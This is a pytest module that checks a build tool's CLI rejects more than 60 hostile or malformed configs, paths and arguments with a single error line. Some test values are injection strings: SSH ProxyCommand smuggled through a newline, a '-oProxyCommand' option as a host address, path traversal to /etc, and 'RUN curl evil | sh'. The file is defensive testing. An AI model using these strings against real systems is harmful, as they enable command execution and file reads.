"""Hostile input never ends in a traceback (issue 14): every malformed config, name, path and
argument below runs the real ``inv`` in a copy of the example project and must exit non-zero
with one line on stderr that names the key, file or argument at fault, and write nothing it
should not (no stray directories, no file outside the project, no command run from a value).

Cases come from a sweep of 181 bad inputs; each row is one that once gave a traceback, was
silently accepted, wrote outside the project or named the wrong culprit.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import commit_all, git

from .conftest import EXAMPLES, REPO

Edit = Callable[[Path], object]


@dataclass(frozen=True)
class Case:
    id: str
    edit: Edit | None
    argv: tuple[str, ...]
    expect: str  # a substring of the one stderr line: the key, file or argument named
    env: dict[str, str] = field(default_factory=dict)
    after: Callable[[Path], None] | None = None  # what must (not) exist afterwards


def top(line: str) -> Edit:
    """Add ``line`` under ``[tool.buildkit]``."""
    return replace("[tool.buildkit]\n", f"[tool.buildkit]\n{line}\n")


def replace(old: str, new: str) -> Edit:
    def edit(p: Path) -> None:
        f = p / "pyproject.toml"
        text = f.read_text()
        assert old in text, old
        f.write_text(text.replace(old, new, 1))

    return edit


def append(text: str) -> Edit:
    def edit(p: Path) -> None:
        f = p / "pyproject.toml"
        f.write_text(f.read_text() + "\n" + text + "\n")

    return edit


def write(rel: str, data: str | bytes) -> Edit:
    def edit(p: Path) -> None:
        f = p / rel
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_bytes(data if isinstance(data, bytes) else data.encode())

    return edit


def both(*edits: Edit) -> Edit:
    def edit(p: Path) -> None:
        for e in edits:
            e(p)

    return edit


def run_git(*args: str) -> Edit:
    return lambda p: git(p, *args)


def symlink(rel: str, target: str) -> Edit:
    return lambda p: (p / rel).symlink_to(target)


def absent(rel: str) -> Callable[[Path], None]:
    def check(p: Path) -> None:
        assert not (p / rel).exists(), f"{rel} was written"

    return check


def untouched_outside(p: Path) -> None:
    assert not (p.parent / "evil.json").exists() and not (p.parent / "charts").exists()


PWNED = Path("/tmp/buildkit-hostile-pwned")
SUMS_HOSTNAME = f"{'0' * 64}  /etc/hostname\n"

CASES = [
    # --- fail-open parsing ---------------------------------------------------------------
    Case("typo-key", top("paralel = 3"), ("config.show",), "paralel: unknown key; did you mean"),
    Case("parallel-float", top("parallel = 2.5"), ("--dry", "image.build"), "parallel: expected"),
    Case("parallel-bool", top("parallel = true"), ("--dry", "image.build"), "parallel: expected"),
    Case("parallel-zero", top("parallel = 0"), ("config.show",), "parallel: expected a positive"),
    Case("batch-maybe", top('batch = "maybe"'), ("--dry", "image.build"), "batch: expected true"),
    Case("timeout-nan", top('connect_timeout = "nan"'), ("config.show",), "connect_timeout:"),
    Case("timeout-inf", top("connect_timeout = inf"), ("config.show",), "connect_timeout:"),
    Case("stop-grace-negative", top("stop_grace = -1"), ("config.show",), "stop_grace: expected"),
    Case("retries-string", top('push_retries = "x"'), ("config.show",), "push_retries:"),
    Case(
        "env-bool-nope",
        None,
        ("config.show",),
        "INVOKE_BUILDKIT_ACCEPT_NEW_HOST_KEYS: expected true or false",
        {"INVOKE_BUILDKIT_ACCEPT_NEW_HOST_KEYS": "nope"},
    ),
    Case(
        "env-parallel-x",
        None,
        ("config.show",),
        "INVOKE_BUILDKIT_PARALLEL: expected a positive integer",
        {"INVOKE_BUILDKIT_PARALLEL": "x"},
    ),
    Case("tool-not-table", write("pyproject.toml", "tool = 5\n"), ("config.show",), "'tool'"),
    Case(
        "buildkit-not-table",
        write("pyproject.toml", "[tool]\nbuildkit = 1\n"),
        ("config.show",),
        "[tool.buildkit] must be a table",
    ),
    Case("bad-toml", append("[tool.buildkit"), ("config.show",), "pyproject.toml: invalid TOML"),
    Case(
        "registry-spaces",
        replace('registry = "localhost:5000/acme"', 'registry = "Local Host/x"'),
        ("config.show",),
        "registry: expected a repository prefix",
    ),
    Case(
        "registry-scheme",
        replace('registry = "localhost:5000/acme"', 'registry = "https://r/x"'),
        ("config.show",),
        "registry: expected a repository prefix",
    ),
    Case(
        "platform-config",
        top('platforms = ["linux//x"]'),
        ("--dry", "image.build"),
        "pyproject.toml: [tool.buildkit] platforms",
    ),
    Case(
        "image-name-upper",
        replace("[tool.buildkit.images.base]", "[tool.buildkit.images.Base]"),
        ("image.graph",),
        "image name 'Base' is not a valid",
    ),
    Case(
        "image-not-table",
        append('[tool.buildkit.images]\nx = "y"'),
        ("image.graph",),
        "[tool.buildkit.images.x] must be a table",
    ),
    Case(
        "context-number",
        append("[tool.buildkit.images.x]\ncontext = 5"),
        ("image.graph",),
        "context: expected a string",
    ),
    Case(
        "extra-args-own-option",
        append('[tool.buildkit.images.x]\ncontext = "images/base"\nextra_build_args = ["--push"]'),
        ("image.graph",),
        "extra_build_args: expected buildx build options",
    ),
    # --- writes and reads outside the project --------------------------------------------
    Case(
        "output-dir-parent",
        replace('output_dir = "dist"', 'output_dir = ".."'),
        ("--dry", "helm.package"),
        "output_dir: expected a path inside the project",
        after=untouched_outside,
    ),
    Case(
        "output-dir-root",
        replace('output_dir = "dist"', 'output_dir = "/"'),
        ("config.show",),
        "output_dir: expected a path inside the project",
    ),
    Case(
        "output-dir-is-project",
        replace('output_dir = "dist"', 'output_dir = "."'),
        ("config.show",),
        "output_dir: expected a directory inside the project",
    ),
    Case(
        "output-dir-is-file",
        both(replace('output_dir = "dist"', 'output_dir = "README"'), write("README", "x")),
        ("version.show",),
        "output_dir: expected a directory",
    ),
    Case(
        "context-escapes",
        replace('context = "images/base"', 'context = "../.."'),
        ("image.graph",),
        "[tool.buildkit.images.base] context: expected a path inside the project",
    ),
    Case(
        "context-symlink-out",
        both(
            symlink("images/evil", "/etc"),
            replace('context = "images/base"', 'context = "images/evil"'),
        ),
        ("image.graph",),
        "context: expected a path inside the project (/etc is outside",
    ),
    Case(
        "dockerfile-escapes",
        replace(
            'context = "images/base"',
            'context = "images/base"\ndockerfile = "../../../etc/hostname"',
        ),
        ("image.graph",),
        "dockerfile: expected a path inside the project",
    ),
    Case(
        "dockerfile-is-dir",
        both(
            write("images/base/sub/x", ""),
            replace('context = "images/base"', 'context = "images/base"\ndockerfile = "sub"'),
        ),
        ("image.graph",),
        "dockerfile: expected a file relative to the context (",
    ),
    Case(
        "discover-root-out",
        replace("roots = []", 'roots = ["/etc"]'),
        ("image.graph",),
        "[tool.buildkit.discover] roots: expected a path inside the project",
    ),
    Case(
        "chart-outside",
        replace('charts = ["charts/acme"]', 'charts = ["../charts"]'),
        ("--dry", "helm.package"),
        "[tool.buildkit.helm] charts: expected a path inside the project",
    ),
    Case(
        "version-file-escapes",
        append('[tool.buildkit.version]\nfiles = [{path = "../../evil.json"}]'),
        ("version.stamp",),
        "[tool.buildkit.version] files: expected a path inside the project",
        after=untouched_outside,
    ),
    Case(
        "lint-path-outside",
        replace('paths = ["src", "tests", "tasks.py"]', 'paths = ["/etc"]'),
        ("lint.all",),
        "[tool.buildkit.lint] paths: expected a path inside the project",
    ),
    Case(
        "sums-absolute-entry",
        write("dist/SHA256SUMS", SUMS_HOSTNAME),
        ("archive.verify",),
        "/etc/hostname (outside dist/; not checked)",
    ),
    Case(
        "sums-escaping-entry",
        write("dist/SHA256SUMS", f"{'0' * 64}  ../pyproject.toml\n"),
        ("archive.verify",),
        "../pyproject.toml (outside dist/",
    ),
    Case(
        "sums-garbage",
        write("dist/SHA256SUMS", "hello world\n"),
        ("archive.verify",),
        "line 1 is not '<sha256>  <path>'",
    ),
    # --- values reaching commands and generated files ------------------------------------
    Case(
        "lint-path-is-an-option",
        replace('paths = ["src", "tests", "tasks.py"]', 'paths = ["--fix", "src"]'),
        ("lint.all",),
        "[tool.buildkit.lint] paths: expected paths, not options",
    ),
    Case(
        "known-hosts-newline",
        top('known_hosts = "/tmp/kh\\nProxyCommand touch /tmp/buildkit-hostile-pwned"'),
        ("config.show",),
        "known_hosts: expected text without control characters",
    ),
    Case(
        "identity-newline",
        append(
            '[[tool.buildkit.hosts]]\nname = "h"\naddress = "bk@127.0.0.2:2222"\n'
            'identity_file = "/k\\nProxyCommand touch /tmp/buildkit-hostile-pwned"'
        ),
        ("config.show",),
        "identity_file: expected text without control characters",
    ),
    Case(
        "host-address-option",
        append('[[tool.buildkit.hosts]]\nname = "h"\naddress = "-oProxyCommand=x"'),
        ("config.show",),
        "address: expected user@host",
    ),
    # --- files that are not what they should be ------------------------------------------
    Case(
        "pyproject-not-utf8",
        lambda p: (p / "pyproject.toml").write_bytes(
            (p / "pyproject.toml").read_bytes() + b"\n# \xff\n"
        ),
        ("config.show",),
        "pyproject.toml: not UTF-8 text",
    ),
    Case(
        "dockerfile-not-utf8",
        write("images/base/Dockerfile", b"FROM scratch\n# \xff\xfe\n"),
        ("image.graph",),
        "images/base/Dockerfile: not UTF-8 text",
    ),
    Case(
        "dockerfile-empty",
        write("images/base/Dockerfile", b""),
        ("image.graph",),
        "images/base/Dockerfile: file with no instructions",
    ),
    Case(
        "password-file-not-utf8",
        both(top('password_file = "pw"\nregistry_user = "u"'), write("pw", b"\xff\xfe")),
        ("--dry", "image.push"),
        "password_file",
    ),
    Case(
        "chart-yaml-list",
        write("charts/acme/Chart.yaml", "- a\n- b\n"),
        ("helm.package",),
        "charts/acme/Chart.yaml: expected keys and values at the top level, got a list",
        after=absent("dist/charts"),
    ),
    Case(
        "chart-yaml-string",
        write("charts/acme/Chart.yaml", "hello\n"),
        ("helm.package",),
        "Chart.yaml: expected keys and values at the top level",
        after=absent("dist/charts"),
    ),
    Case(
        "values-yaml-list",
        write("charts/acme/values.yaml", "- a\n"),
        ("helm.package",),
        "charts/acme/values.yaml: expected keys and values",
        after=absent("dist/charts"),
    ),
    Case(
        "values-yaml-broken",
        write("charts/acme/values.yaml", "a: [\n"),
        ("helm.package",),
        "charts/acme/values.yaml: invalid YAML",
        after=absent("dist/charts"),
    ),
    Case(
        "values-path-missing",
        replace('"api.image" = "api"', '"api.nope.image" = "api"'),
        ("helm.package",),
        "image value path 'api.nope.image': no 'nope' under api",
        after=absent("dist/charts"),
    ),
    Case(
        "image-values-unknown-image",
        replace('"api.image" = "api"', '"api.image" = "nope"'),
        ("--dry", "helm.package"),
        "names image 'nope'",
    ),
    Case(
        "dependency-cycle",
        write("images/base/Dockerfile", "FROM localhost:5000/acme/worker:latest\n"),
        ("image.graph",),
        "image dependency cycle base -> worker -> base",
    ),
    Case(
        "version-template-error",
        both(
            write("t1.j2", "{{ version }}"),
            write("t2.j2", "{{ nope.x }}"),
            append(
                '[tool.buildkit.version]\nfiles = [{template = "t1.j2", path = "one.txt"}, '
                '{template = "t2.j2", path = "two.txt"}]'
            ),
        ),
        ("version.stamp",),
        "t2.j2: template error: 'nope' is undefined",
        after=absent("dist/one.txt"),
    ),
    Case(
        "version-template-syntax",
        both(
            write("t1.j2", "{% if %}"),
            append('[tool.buildkit.version]\nfiles = [{template = "t1.j2", path = "one.txt"}]'),
        ),
        ("version.stamp",),
        "t1.j2: template error",
    ),
    Case(
        "version-template-missing",
        append('[tool.buildkit.version]\nfiles = [{template = "nope.j2", path = "v.txt"}]'),
        ("version.stamp",),
        "files: expected template files that exist",
    ),
    # --- git tags ------------------------------------------------------------------------
    Case(
        "tag-four-numbers",
        both(run_git("tag", "-d", "v2.3.0"), run_git("tag", "v1.2.3.4")),
        ("version.show",),
        "version '1.2.3.4' from git has more than three numbers",
    ),
    Case(
        "tag-without-version",
        both(run_git("tag", "-d", "v2.3.0"), run_git("tag", "vnext")),
        ("version.show",),
        "git tag 'vnext' matches",
    ),
    # --- arguments -----------------------------------------------------------------------
    Case(
        "parallel-not-a-number",
        None,
        ("image.build", "--parallel", "x"),
        "--parallel: expected a whole number, got 'x'",
    ),
    Case(
        "compression-unknown",
        None,
        ("--dry", "archive.export", "--compression", "bz2"),
        "--compression (config archive.compression): expected one of",
    ),
    Case(
        "platform-argument",
        None,
        ("--dry", "image.build", "--platform", "linux//x"),
        "--platform: expected platforms like",
    ),
    Case("unknown-image-name", None, ("image.graph", "--name", "nope"), "nope"),
    Case("unknown-host", None, ("remote.run", "--host", "nope", "version.show"), "nope"),
    Case(
        "fan-out-unknown-host",
        None,
        ("image.push", "--platform", "linux/amd64", "--hosts", "nope"),
        "--hosts: no host 'nope'",
    ),
    Case(
        "fan-out-platform-no-host-builds",
        append(
            '[[tool.buildkit.hosts]]\nname = "x86"\naddress = "bk@127.0.0.9:2222"\n'
            'platforms = ["linux/amd64"]'
        ),
        ("image.push", "--platform", "linux/s390x", "--hosts", "x86"),
        "--platform linux/s390x: no host of --hosts builds it (their platforms: x86: linux/amd64)",
    ),
    Case(
        "fan-out-with-host",
        None,
        ("image.push", "--platform", "linux/amd64", "--hosts", "a", "--host", "a"),
        "--hosts: spreads over build hosts' own engines; drop --host",
    ),
    Case(
        "host-with-builder",
        None,
        ("image.build", "--host", "a", "--builder", "x"),
        "--host: builds with that host's own engine; drop --builder (or config 'builder')",
    ),
    # --- missing tools -------------------------------------------------------------------
    Case(
        "no-helm",
        None,
        ("helm.package",),
        "helm: command not found",
        {"PATH": "<git only>"},
        after=absent("dist/charts"),
    ),
    Case("no-docker", None, ("image.build",), "docker", {"PATH": "<git only>"}),
]


@pytest.fixture
def bad_project(tmp_path: Path, helm_bin: None) -> Path:
    """A copy of the example project, committed and tagged v2.3.0; nothing is built."""
    dest = tmp_path / "acme"
    shutil.copytree(
        EXAMPLES, dest, ignore=shutil.ignore_patterns("dist", "busybox-*", "__pycache__")
    )
    commit_all(dest, "example project")
    git(dest, "tag", "-a", "v2.3.0", "-m", "v2.3.0")
    return dest


def git_only_path(tmp: Path) -> str:
    """A PATH holding git and nothing else (no docker, no helm)."""
    d = tmp / "git-only-bin"
    d.mkdir()
    found = shutil.which("git")
    assert found
    (d / "git").symlink_to(found)
    return str(d)


def test_the_table_is_large_enough() -> None:
    assert len(CASES) >= 40 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_bad_input_ends_in_one_line(case: Case, bad_project: Path, tmp_path: Path) -> None:
    PWNED.unlink(missing_ok=True)
    if case.edit is not None:
        case.edit(bad_project)
    env = {**os.environ, **case.env}
    env.pop("CI", None)  # what a user sees, not CI's own progress settings
    if env.get("PATH") == "<git only>":
        env["PATH"] = git_only_path(tmp_path)
    before = set(p for p in bad_project.rglob("*") if ".git" not in p.parts)
    res = subprocess.run(
        [sys.executable, "-m", "invoke", *case.argv],
        cwd=bad_project,
        env={**env, "PYTHONPATH": str(REPO)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    err = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert res.returncode != 0, (res.stdout, res.stderr)
    assert "Traceback" not in res.stderr, res.stderr
    assert len(err) == 1, res.stderr
    assert case.expect in err[0], err[0]
    assert not PWNED.exists()
    if case.after is not None:
        case.after(bad_project)
    if case.argv[0] == "--dry" or case.argv[0] in ("config.show", "image.graph", "version.show"):
        after = set(p for p in bad_project.rglob("*") if ".git" not in p.parts)
        assert after == before, sorted(map(str, after - before))


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--registry", 'x"\n[evil]\na = "b'),
        ("--base-image", "python:3.12\nRUN curl evil | sh"),
        ("--name", "Bad Name"),
    ],
)
def test_scaffold_refuses_values_that_would_escape_the_files_it_writes(
    tmp_path: Path, flag: str, value: str
) -> None:
    script = Path(sys.executable).with_name("buildkit-tasks")
    res = subprocess.run(
        [str(script), "scaffold", "--kind", "python", flag, value],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    err = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert res.returncode == 1 and len(err) == 1 and err[0].startswith(f"buildkit: {flag}:"), err
    assert list(tmp_path.iterdir()) == []  # nothing written
